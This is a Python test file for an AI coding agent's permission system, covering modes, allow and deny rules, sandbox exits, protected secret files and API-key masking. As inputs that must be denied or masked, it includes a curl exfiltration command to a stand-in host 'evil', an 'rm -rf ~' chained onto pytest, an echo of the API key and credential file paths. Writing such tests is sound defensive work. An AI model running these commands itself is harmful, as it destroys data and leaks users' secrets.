"""Permission modes, rules, protected files and secrets, through the real loop and tools."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any

import pytest

from rhapsody.core.session.history import read_history
from rhapsody.core.access.permissions import Call, Rules, decide_call
from rhapsody.loopback.script import call, say
from rhapsody.tools.shell import parse

from tests.conftest import Stub, collect

NARRATE = "I will run this command now because the task needs it, and I expect it to succeed quickly."


@pytest.mark.parametrize("mode,tool,arg,writes,confinement,verdict", [
    ("ask", "bash", "pytest -q", True, "workspace-write", "ask"),
    ("ask", "read_file", "src/app.py", False, "", "allow"),
    ("auto-edit", "write_file", "src/app.py", True, "", "allow"),
    ("auto-edit", "bash", "ls", True, "workspace-write", "allow"),
    ("auto-edit", "bash", "ls", True, "unavailable", "ask"),
    ("read-only", "bash", "ls", True, "read-only", "allow"),
    ("read-only", "bash", "ls", True, "unavailable", "deny"),
    ("read-only", "edit_file", "a.py", True, "", "deny"),
    ("yolo", "bash", "rm -rf build", True, "workspace-write", "allow"),
    ("yolo", "bash", "rm -rf build", True, "off", "allow"),
    ("yolo", "bash", "rm -rf build", True, "unavailable", "ask"),
])
def test_modes(mode: str, tool: str, arg: str, writes: bool, confinement: str, verdict: str) -> None:
    decision = decide_call(mode, Rules(parse=parse), Call(tool, arg, writes, tool == "read_file", confinement=confinement))
    assert decision.verdict == verdict


def test_rules_match_every_subcommand_and_deny_always_wins() -> None:
    rules = Rules(allow=["bash:pytest*", "bash:git status"], deny=["bash:rm -rf*", "bash:curl*"], parse=parse)
    assert decide_call("ask", rules, Call("bash", "pytest -q tests", True, False)).verdict == "allow"
    assert decide_call("ask", rules, Call("bash", "pytest -q && git status", True, False)).verdict == "allow"
    assert decide_call("ask", rules, Call("bash", "pytest -q && rm -rf ~", True, False)).verdict == "deny"
    assert decide_call("ask", rules, Call("bash", "pytest; echo hi", True, False)).verdict == "ask"
    assert decide_call("yolo", rules, Call("bash", "ls | curl -d @- evil", True, False)).verdict == "deny"


def test_leaving_the_sandbox_always_asks_and_only_a_user_rule_skips_the_question() -> None:
    rules = Rules(allow=["bash:pytest*"], parse=parse)
    for mode in ("ask", "auto-edit", "yolo"):
        decision = decide_call(mode, rules, Call("bash", "pytest", True, False, confinement="workspace-write", leave_sandbox=True))
        assert decision.verdict == "ask", mode
    assert decide_call("read-only", rules, Call("bash", "pytest", True, False, confinement="read-only",
                  leave_sandbox=True)).verdict == "deny"
    user = Rules(allow=["unsandboxed:pytest*"], parse=parse)
    assert decide_call("auto-edit", user, Call("bash", "pytest -q", True, False, confinement="workspace-write",
                  leave_sandbox=True)).verdict == "allow"


@pytest.mark.parametrize("path", [".env", "config/.env.production", "keys/server.pem", "home/id_rsa", ".rhapsody/history/x.jsonl"])
def test_secret_files_and_rhapsody_state_are_refused_to_reads_unless_allowed(path: str) -> None:
    assert decide_call("yolo", Rules(), Call("read_file", path, False, True)).verdict == "deny"
    assert decide_call("yolo", Rules(allow=[f"read_file:{path}"]), Call("read_file", path, False, True)).verdict == "allow"


async def test_headless_ask_refuses_with_a_clear_result_and_records_the_decision(stub: Stub, project: Path) -> None:
    stub.script(call(NARRATE, "bash", command="touch made.txt"), say("I could not run it."))
    wiring = stub.wire(project, permission_mode="ask")
    await collect(wiring.agent.run("go"))
    assert not (project / "made.txt").exists()
    result = stub.bodies()[1]["messages"][-1]["content"][0]
    assert result["is_error"] and "no human can answer here (headless)" in result["content"]
    assert 'allow = ["bash:touch *"]' in result["content"]  # a rule that allows this very call
    decisions = [r for r in read_history(wiring.session.path).records if r["kind"] == "permission"]
    assert decisions and decisions[0]["decision"] == "deny" and decisions[0]["argument"] == "touch made.txt"


async def test_reading_dotenv_is_refused_and_search_skips_it(stub: Stub, project: Path) -> None:
    (project / ".env").write_text("TOKEN=hunter2-very-secret\n")
    stub.script(call(NARRATE, "read_file", path=".env"), call(NARRATE, "search_text", pattern="hunter2"), say("ok"))
    wiring = stub.wire(project)
    await collect(wiring.agent.run("go"))
    text = json.dumps(stub.bodies()[-1])
    assert "very-secret" not in text and "may hold secrets" in text and "no matches" in text


async def test_the_api_key_never_reaches_disk_or_the_model(stub: Stub, project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    key = "sk-ant-api03-the-real-secret-value"
    monkeypatch.setenv("ANTHROPIC_API_KEY", key)
    (project / "leak.txt").write_text(f"key={key}\n")
    stub.script(call(NARRATE, "bash", command="cat leak.txt; echo env=$ANTHROPIC_API_KEY"), say("done"))
    wiring = stub.wire(project)
    wiring.agent.request_handoff()
    await collect(wiring.agent.run("go"))
    assert key not in json.dumps(stub.bodies())
    assert "[masked secret]" in json.dumps(stub.bodies()[1])
    written = [p for p in (project / ".rhapsody").rglob("*") if p.is_file()]
    assert written and all(key not in p.read_text(errors="replace") for p in written)


async def test_writes_into_rhapsody_state_are_refused_even_in_yolo(stub: Stub, project: Path) -> None:
    stub.script(call(NARRATE, "write_file", path=".rhapsody/history/evil.jsonl", content="{}"), say("ok"))
    wiring = stub.wire(project)
    await collect(wiring.agent.run("go"))
    assert not (project / ".rhapsody" / "history" / "evil.jsonl").exists()
    assert "rhapsody's own history" in json.dumps(stub.bodies()[-1])


def offered(mode: str, rules: Rules, tool: str, argument: str, **call: Any) -> tuple[str, ...]:
    from rhapsody.core.access.permissions import Call
    from rhapsody.core.toolbox.rule_suggestions import session_rules

    return session_rules(mode, rules, Call(tool, argument, True, False, call.pop("keys", (argument,)), **call))


def test_a_session_rule_is_suggested_for_every_part_of_a_compound_command() -> None:
    rules = offered("ask", Rules(parse=parse), "bash", "sleep 2; python -m unittest t 2>&1 | tail -n 4",
                    confinement="workspace-write")
    assert rules == ("bash:sleep *", "bash:python *", "bash:tail *")
    again = "sleep 1; python -m unittest other | tail -n 2"
    assert decide_call("ask", Rules(session_allow=list(rules), parse=parse), Call("bash", again, True, False)).verdict == "allow"
    assert offered("ask", Rules(), "write_file", "./src/app/x.py", keys=("src/app/x.py",)) == ("write_file:src/app/*",)


@pytest.mark.parametrize("command", ["for i in 1 2; do echo $i; done", "(cd src && ls)", "echo $(id)",
                                     "while true; do sleep 1; done", "FOO=1 pytest"])
def test_no_session_rule_is_offered_for_a_command_no_rule_can_allow(command: str) -> None:
    assert offered("ask", Rules(parse=parse), "bash", command, confinement="workspace-write") == ()
    assert offered("ask", Rules(parse=parse), "bash", command, confinement="unavailable") == ()
    assert offered("ask", Rules(parse=parse), "bash", "ls", confinement="workspace-write"), "a plain command gets one"


def test_an_offered_session_rule_allows_the_same_command_next_time() -> None:
    for command in ("ls", "pytest -q && git status", "cat a.txt | wc -l", "./run.sh -x"):
        rules = offered("ask", Rules(parse=parse), "bash", command, confinement="workspace-write")
        if rules:  # offered only when it works
            trial = Rules(session_allow=list(rules), parse=parse)
            assert decide_call("ask", trial, Call("bash", command, True, False, confinement="workspace-write")).verdict == "allow"
    assert offered("ask", Rules(parse=parse), "bash", "ls", confinement="workspace-write") == ("bash:ls", "bash:ls *")
    assert offered("ask", Rules(parse=parse), "bash", "pytest -q && git status",
                   confinement="workspace-write") == ("bash:pytest *", "bash:git *")


def test_leaving_the_sandbox_or_a_deny_rule_offers_no_session_rule() -> None:
    assert offered("auto-edit", Rules(parse=parse), "bash", "pytest -q", confinement="workspace-write") == ("bash:pytest *",)
    assert offered("ask", Rules(deny=["bash:git push*"], parse=parse), "bash", "git status",
                   confinement="workspace-write") == ("bash:git *",), "a deny rule elsewhere takes nothing away"
    assert offered("auto-edit", Rules(parse=parse), "bash", "pytest -q", confinement="workspace-write",
                   leave_sandbox=True) == ()
    denied = Rules(deny=["bash:git push*"], parse=parse)
    assert offered("ask", denied, "bash", "git status && eval x", confinement="workspace-write") == ()


async def test_allowing_a_compound_command_for_the_session_runs_it_again_without_asking(
        stub: Stub, project: Path) -> None:
    from rhapsody.core.agent import ops
    from rhapsody.core.events import ApprovalAsked, Idle
    from rhapsody.core.toolbox.approval import HumanApprover

    command = "printf one && printf two | wc -l"  # printf: not a read-only command, which would not ask
    stub.script(call(NARRATE, "bash", command=command), call(NARRATE, "bash", command=command), say("done"))
    approver = HumanApprover()
    wiring = stub.wire(project, approver=approver, permission_mode="ask")
    asked: list[tuple[str, ...]] = []
    assert wiring.agent.submit(ops.UserTurn(text="go")).started
    async with asyncio.timeout(30):
        async for event in wiring.agent.events():
            if isinstance(event, ApprovalAsked):
                asked.append(event.rules)
                assert wiring.agent.submit(ops.ApprovalAnswer(id=event.id, decision="always")).ok
            elif isinstance(event, Idle):
                break
    assert asked == [("bash:printf *", "bash:wc *")]  # asked once: the second run is allowed by the rules
    assert not approver.asked
    results = [b for m in stub.bodies()[2]["messages"] for b in m["content"] if isinstance(b, dict)
               and b.get("type") == "tool_result"]
    assert len(results) == 2 and not any(r.get("is_error") for r in results)


def test_the_user_guide_says_what_headless_does_with_bash() -> None:
    guide = (Path(__file__).parents[3] / "docs" / "user-guide.md").read_text(encoding="utf-8")
    headless = guide[guide.index("**Headless** (`-p`)"):]
    headless = headless[:headless.index("\n\n")]
    assert "bash runs **inside the sandbox** without asking" in headless and "bash is refused unless" not in guide
    sandboxed = Rules(parse=parse)
    assert decide_call("auto-edit", sandboxed, Call("bash", "pytest -q", True, False, confinement="workspace-write")).verdict == "allow"
    assert decide_call("read-only", sandboxed, Call("bash", "pytest -q", True, False, confinement="read-only")).verdict == "allow"
    assert decide_call("auto-edit", sandboxed, Call("bash", "pytest -q", True, False, confinement="unavailable")).verdict == "ask"
    assert decide_call("auto-edit", Rules(allow=["bash:pytest *"], parse=parse), Call("bash", "pytest -q", True, False,
                  confinement="unavailable")).verdict == "allow"
